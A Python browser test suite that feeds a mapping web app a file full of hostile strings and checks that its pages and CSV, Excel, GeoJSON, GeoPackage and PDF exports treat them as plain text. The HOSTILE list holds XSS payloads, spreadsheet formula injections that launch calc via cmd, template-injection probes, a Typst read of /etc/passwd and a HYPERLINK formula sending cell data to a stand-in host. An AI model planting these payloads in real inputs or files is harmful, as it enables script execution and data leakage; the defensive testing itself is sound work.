"""A file whose every free cell is a script, a formula or a template expression: nothing runs, nothing is lost."""

import json
from pathlib import Path

import openpyxl
import pandas as pd
import pyogrio
import pypdfium2
import pytest
from playwright.sync_api import expect

from geo.anct_file import HEADERS
from tests.browser.conftest import Visit
from tests.browser.test_exports import Download, download  # noqa: F401 - a fixture
from tests.browser.test_own_file import load
from tests.geo.builders import METZ, export

HOSTILE = [
    "<script>window.ran=1;alert(1)</script>",
    '"><img src=x onerror="window.ran=1;alert(2)">',
    "<svg onload=alert(3)>",
    "=HYPERLINK(\"http://maillage.invalid/?\"&A1,\"Erreur\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-2+3",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "#panic(\"typst\") $ x^2 $ #read(\"/etc/passwd\")",
    "');alert(4);//",
    "[lien](javascript:alert(5)) **gras** :red[rouge] `code`",
    "</script></style><style>*{display:none}</style>",
    "javascript:alert(6)",
    "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e",
    "https://maillage.invalid/suivi.png",
]  # fmt: skip
# What a row must have to be on the map; all else is hostile.
NEEDED = ("posts", "validated_on", "commune_code", "department_code", "siret")
PAGES = (
    "Couverture",
    "Avancement des vagues",
    "Zones sous-couvertes",
    "Prochains postes",
    "Données et méthode",
)


def hostile_file() -> bytes:
    rows = [
        {name: METZ[name] if name in NEEDED else text for name in METZ} | {"name": f"{text} n°{place}"}
        for place, text in enumerate(HOSTILE)
    ]
    # And rows where nothing at all is as it should be: counted and flagged, never shown as more.
    rows += [dict.fromkeys(HEADERS, text) for text in HOSTILE]
    return export(rows)


@pytest.fixture
def watched(visit: Visit) -> Visit:
    """A visitor whose browser notes every dialog."""
    visit.page.on(
        "dialog", lambda dialog: (visit.errors.append(f"dialog: {dialog.message}"), dialog.dismiss())
    )
    return visit


def show_it(visit: Visit) -> None:
    visit.open("donnees")
    load(visit, hostile_file(), '"><script>alert(8)<script>.csv')
    summary = visit.page.locator(".m-figures").last
    expect(summary).to_contain_text(str(2 * len(HOSTILE)))
    expect(summary).to_contain_text(f"{len(HOSTILE)} rejetées")
    visit.page.get_by_role("button", name="Afficher ce fichier").click()
    expect(visit.page.get_by_role("button", name="Revenir au fichier de l’application")).to_be_visible()


def is_clean(visit: Visit) -> bool:
    """Nothing ran, in the page or in the map's frame, and nothing was asked of another host."""
    ran = [frame.evaluate("window.ran === undefined") for frame in visit.page.frames]
    return all(ran) and visit.errors == [] and visit.foreign == []


def test_nothing_runs_on_any_page(watched: Visit) -> None:
    visit = watched
    show_it(visit)
    for name in PAGES:
        visit.page.get_by_role("link", name=name).first.click()
        expect(visit.page.locator("h1")).to_have_count(1)
        if name != "Données et méthode":
            visit.wait_for_paint()
            expect(visit.map).to_have_attribute("data-structures", "1")
        assert is_clean(visit)
    visit.page.get_by_role("link", name="Couverture").first.click()
    visit.wait_for_paint()
    expect(visit.page.locator(".m-figures").first).to_contain_text(str(7 * len(HOSTILE)))
    # The tooltip of the circle says every name, as text.
    visit.frame.locator(".maillage-structure").first.hover(force=True)
    tip = visit.frame.locator(".maillage-tip")
    expect(tip).to_contain_text("<script>window.ran=1;alert(1)</script>")
    expect(tip).to_contain_text("<svg onload=alert(3)>")
    # So does the card of the commune.
    visit.page.get_by_role("combobox", name="Chercher une commune").click()
    visit.page.keyboard.type("Metz")
    visit.page.get_by_role("option", name="Metz (57463)").click()
    expect(visit.page.locator(".m-card")).to_contain_text("n°0")
    assert is_clean(visit)


def test_every_export_has_it_as_text(watched: Visit, download: Download) -> None:  # noqa: F811
    visit = watched
    show_it(visit)
    visit.page.get_by_role("link", name="Couverture").first.click()
    visit.wait_for_paint()
    visit.page.get_by_role("button", name="Exporter des fichiers").click()
    visit.page.get_by_role("combobox", name="Un seul tableau").click()
    visit.page.get_by_role("option", name="Structures").click()
    expect(visit.page.get_by_role("dialog")).to_contain_text("Structures")
    names = {f"{text} n°{place}" for place, text in enumerate(HOSTILE)}

    sheet = pd.read_csv(download("CSV"), sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert {plain(name) for name in sheet["Structure"]} == {plain(name) for name in names}
    cells = sheet.to_numpy().ravel()
    assert not [cell for cell in cells if str(cell).startswith(("=", "+", "@", "-", "\t", "\r"))]

    book = openpyxl.load_workbook(download("Tous les tableaux (Excel)"))
    assert {cell.data_type for page in book for row in page.iter_rows() for cell in row} <= {"s", "n", "d"}
    column = [row[0] for row in book["Structures"].iter_rows(min_row=2, values_only=True)]
    assert {plain(str(name)) for name in column} == {plain(name) for name in names}

    features = json.loads(download("GeoJSON").read_bytes())["features"]
    assert {plain(f["properties"]["name"]) for f in features} == {plain(name) for name in names}
    layer = pyogrio.read_dataframe(download("Couches pour QGIS (GeoPackage)"), layer="structures")
    assert {plain(name) for name in layer["name"]} == {plain(name) for name in names}
    assert is_png(download("Image de la carte affichée (PNG)"))
    with pypdfium2.PdfDocument(download("Note de deux pages (PDF)")) as note:
        assert len(note) == 2
        text = "".join(page.get_textpage().get_text_range() for page in note)
    assert str(7 * len(HOSTILE)) in text
    assert "root:" not in text
    assert is_clean(visit)


def plain(name: str) -> str:
    """A name without what exports change on purpose: the apostrophe that disarms a formula, typography."""
    for from_, to in (("’", "'"), ("\u00a0", " "), ("\u202f", " ")):
        name = name.replace(from_, to)
    return name.removeprefix("'")


def is_png(path: Path) -> bool:
    return path.read_bytes().startswith(b"\x89PNG")
